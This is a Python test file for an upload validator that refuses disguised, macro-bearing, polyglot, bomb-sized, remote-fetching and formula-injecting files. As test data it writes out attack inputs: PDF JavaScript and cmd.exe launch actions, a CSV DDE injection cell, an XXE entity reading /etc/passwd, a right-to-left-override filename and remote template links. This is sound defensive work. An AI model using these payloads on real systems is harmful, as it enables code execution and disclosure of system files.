"""Papers come in as what they are, and never with more inside than one can see."""

import io
import struct
import zipfile
from time import perf_counter

import pytest
from PIL import Image

from amparo.foundation.core.files import file_types, validation
from amparo.foundation.core.files.file_types import DOCX, ODT, XLSX
from amparo.foundation.core.files.validation import (
    ATTACHMENT_TYPES,
    MAX_UPLOAD_BYTES,
    validate_upload,
)
from amparo.foundation.core.refusals import Refusal

from .sample_files import (
    CANARY,
    HONEST,
    acting_pdf,
    docx,
    links,
    odf,
    pdf,
    picture,
    picture_that_swells,
    picture_with_a_page,
    xlsx,
    zipped,
)

pytestmark = pytest.mark.usefixtures("in_english")

PDF = "application/pdf"


def taken(name, content, kind="application/octet-stream", **more):
    return validate_upload(name, kind, len(content), io.BytesIO(content), **more)


def refused(name, content, kind="application/octet-stream") -> str:
    with pytest.raises(Refusal) as why:
        taken(name, content, kind)
    return str(why.value)


@pytest.mark.parametrize("name", HONEST)
def test_honest_papers_come_in(name):
    make, kind = HONEST[name]
    paper = taken(name, make(), kind)
    assert (paper.name, paper.kind) == (name, kind)
    assert paper.size == len(paper.content.read()) > 0


def test_every_kind_that_may_come_is_tried():
    assert {name[name.rindex(".") :] for name in HONEST} == set(ATTACHMENT_TYPES) - {".jpeg"}


@pytest.mark.parametrize("ending", sorted({name[name.rindex(".") :] for name in HONEST}))
def test_v5_2_2_no_kind_comes_in_under_the_name_of_another(ending):
    wanted = ATTACHMENT_TYPES[ending]
    for make, kind in HONEST.values():
        if kind != wanted and not {kind, wanted} <= {"text/plain", "text/csv"}:
            refused("paper" + ending, make())
            refused("paper" + ending, make(), wanted)


def test_v5_2_2_what_the_sender_says_must_agree():
    assert "not what its name says" in refused("acta.pdf", pdf(), "text/html")
    assert taken("tabla.csv", b"a,b\n1,2\n", "application/vnd.ms-excel").kind == "text/csv"


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("run.exe", "Choose a PDF"),
        ("drawing.svg", "Choose a PDF"),
        ("page.html", "Choose a PDF"),
        ("letter.docm", "can carry programs"),
        ("letter.doc", "can carry programs"),
        ("photo.heic", "Save it as JPEG"),
        ("noend", "Choose a PDF"),
        ("acta.exe.pdf", "two endings"),
        ("acta.HTML.pdf", "two endings"),
        ("acta\u202efdp.exe", "Choose a PDF"),
        ("x" * 220 + ".pdf", "too long"),
    ],
)
def test_v5_2_2_names_that_promise_harm(name, says):
    assert says in refused(name, pdf())


def test_a_name_with_a_date_has_one_ending():
    assert taken("acta 12.03.2026.pdf", pdf()).kind == PDF


# Pictures


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_v14_2_8_of_a_picture_only_what_one_sees_is_kept(form):
    kept = taken(f"foto.{form.lower()}", picture(form)).content.read()
    with Image.open(io.BytesIO(kept)) as seen:
        assert seen.format == form
        assert seen.size == (30, 60)  # it was set upright
        assert not seen.getexif()
    assert CANARY.encode() not in kept


def test_v5_2_2_a_page_hidden_in_a_picture_does_not_come_along():
    polyglot = picture_with_a_page()
    assert zipfile.is_zipfile(io.BytesIO(polyglot))
    kept = taken("foto.jpg", polyglot, "image/jpeg").content.read()
    assert b"script" not in kept
    assert not zipfile.is_zipfile(io.BytesIO(kept))


def test_v14_2_8_evidence_is_kept_as_it_was_taken_and_only_pictures_are_evidence():
    paper = taken("foto.jpg", picture(), original=True)
    assert paper.is_original
    assert CANARY.encode() in paper.content.read()
    assert not taken("acta.pdf", pdf(), original=True).is_original


def test_evidence_must_open_too():
    with pytest.raises(Refusal, match="does not open"):
        taken("foto.jpg", picture()[:300], original=True)


def test_a_picture_that_swells_is_refused_before_it_is_drawn(monkeypatch):
    swelling = picture_that_swells()
    monkeypatch.setattr(Image.Image, "load", None)  # no point may be drawn
    assert "too many points" in refused("foto.png", swelling)


def test_a_large_picture_of_a_telephone_comes_in_quickly():
    drawn = io.BytesIO()
    Image.effect_noise((4000, 3000), 40).convert("RGB").save(drawn, "JPEG", quality=80)
    before = perf_counter()
    taken("foto.jpg", drawn.getvalue())
    assert perf_counter() - before < 5
    assert file_types.MAX_PIXELS > 50_000_000


# PDFs


@pytest.mark.parametrize(
    "action",
    [
        b"/S /JavaScript /JS (app.alert(1))",
        b"/S /J#61vaScript /JS (app.alert(1))",
        b"/S /Launch /F (cmd.exe)",
        b"/S/GoToE /Type/EmbeddedFile",
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_acts_is_refused(action, packed):
    assert "new PDF" in refused("acta.pdf", acting_pdf(action, packed=packed))


@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_that_leads_to_a_page_may_come_in(packed):
    made = acting_pdf(b"/S /URI /URI (https://example.org/javascript)", packed=packed)
    assert taken("acta.pdf", made).kind == PDF


@pytest.mark.parametrize("content", [b"%PDF-1.7\n", b"x" + pdf(), pdf()[: len(pdf()) // 2]])
def test_half_a_pdf(content):
    assert "not what its name says" in refused("acta.pdf", content)


def test_many_empty_streams_do_not_hold_us_up():
    before = perf_counter()
    refused("acta.pdf", b"%PDF-1.7\n" + b"/ObjStm stream\n" * 1_300_000 + b"%%EOF")
    assert perf_counter() - before < 6


# Documents and tables


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
        {"word/activeX/activeX1.xml": "<x/>"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/media/image1.png": b"MZ\x90\x00"},
        {"word/media/image2.png": zipped({"evil.exe": b"x"})},
        {"word/media/nested.bin": b"7z\xbc\xaf\x27\x1c"},
    ],
)
def test_programs_and_archives_inside_a_document(more):
    assert "Save it as PDF" in refused("carta.docx", docx(more), DOCX)


def test_a_document_with_macros_under_another_name():
    made = docx(kind="document.macroEnabled")
    assert "from elsewhere" in refused("carta.docx", made, DOCX)


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "frame"])
def test_a_document_that_fetches_when_it_is_opened(kind):
    made = docx({"word/_rels/x.xml.rels": links((kind, "https://evil.example/t.dotm", "x"))})
    assert "from elsewhere" in refused("carta.docx", made, DOCX)


def test_a_link_to_follow_is_no_harm():
    rels = links(("hyperlink", "https://example.org", "x"), ("image", "media/1.png", ""))
    assert taken("carta.docx", docx({"word/_rels/document.xml.rels": rels}), DOCX).kind == DOCX


def test_links_that_cannot_be_read():
    evil = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    assert "from elsewhere" in refused("carta.docx", docx({"word/_rels/x.rels": evil}), DOCX)


@pytest.mark.parametrize(
    ("made", "says"),
    [
        (odf(more={"Basic/Standard/m.xml": "<x/>"}), "Save it as PDF"),
        (odf(more={"Scripts/python/x.py": "print()"}), "Save it as PDF"),
        (odf(body='<draw:image xlink:href="https://evil.example/x.png"/>'), "from elsewhere"),
        (odf(body='<script:event-listener script:language="ooo:script"/>'), "from elsewhere"),
        (odf("application/x-other"), "not what its name says"),
    ],
)
def test_open_documents_that_act(made, says):
    assert says in refused("carta.odt", made, ODT)


def test_an_open_document_may_hold_links():
    body = '<text:a xlink:href="https://example.org">x</text:a><draw:image xlink:href="P/1.png"/>'
    assert taken("carta.odt", odf(body=body), ODT).kind == ODT


def test_v5_2_3_bombs_are_seen_from_outside():
    bomb = docx({"word/media/a.xml": b"\0" * 300_000_000})
    before = perf_counter()
    assert "dangerous size" in refused("carta.docx", bomb, DOCX)
    assert perf_counter() - before < 1
    many = docx({f"word/{at}.xml": b"" for at in range(2_100)})
    assert "dangerous size" in refused("carta.docx", many, DOCX)


def test_a_document_that_promises_less_than_it_holds():
    raw = bytearray(docx({"word/a.xml": b"x" * 500_000}))
    entry = raw.rfind(b"word/a.xml") - 46
    struct.pack_into("<L", raw, entry + 24, 400)
    assert refused("carta.docx", bytes(raw), DOCX)


def test_two_parts_of_one_name():
    made = io.BytesIO(docx())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", "<evil/>")
    assert "not what its name says" in refused("carta.docx", made.getvalue(), DOCX)


def test_ways_of_packing_that_no_office_uses():
    parts = {"[Content_Types].xml": "<x/>", "word/document.xml": b"x" * 9000}
    assert refused("carta.docx", zipped(parts, way=zipfile.ZIP_LZMA), DOCX)


def test_locked_documents_say_so():
    assert "password" in refused("carta.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    raw = bytearray(xlsx())
    entry = raw.rfind(b"xl/workbook.xml") - 46
    struct.pack_into("<H", raw, entry + 8, 1)
    assert "password" in refused("tabla.xlsx", bytes(raw), XLSX)


# Texts


@pytest.mark.parametrize(
    "text",
    [b"\x00\x01\x02", b"<html><body>x", b"  <!DOCTYPE html>", b"\xef\xbb\xbf<svg/>", b"#!/bin/sh",
     b"\xff\xfe\x3c\x00h\x00", b"\x1b]0;title\x07"],
)  # fmt: skip
def test_what_is_no_text(text):
    assert "not what its name says" in refused("nota.txt", text)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "latin-1", "utf-16"])
def test_texts_in_any_encoding(encoding):
    assert taken("nota.txt", "Señora Ñandú\r\n¿3 < 4?".encode(encoding)).kind == "text/plain"


@pytest.mark.parametrize("cell", ["=1+1", "+cmd|' /C calc'!A0", '"=HYPERLINK(""x"")"', "@SUM|x"])
def test_tables_that_reckon(cell):
    assert "values only" in refused("tabla.csv", f"name,x\nAna,{cell}\n".encode())


def test_telephones_and_debts_are_no_formulas():
    assert taken("tabla.csv", b"name;x\nAna;+591 7001\nEva;-20\nMia;@mia\n").kind == "text/csv"


# Limits and judges


def test_more_than_20_mb_and_nothing_at_all():
    assert "20 MB" in refused("nota.txt", b"x" * (MAX_UPLOAD_BYTES + 1))
    with pytest.raises(Refusal, match="20 MB"):  # whatever it says of itself
        validate_upload("nota.txt", "text/plain", 5, io.BytesIO(b"x" * (MAX_UPLOAD_BYTES + 1)))
    assert "empty" in refused("nota.txt", b"")


def test_a_second_judge_must_agree(monkeypatch):
    class Magic:
        @staticmethod
        def from_buffer(content, mime):
            return "text/html"

    monkeypatch.setattr(validation, "magic", Magic)
    assert "not what its name says" in refused("foto.jpg", picture())
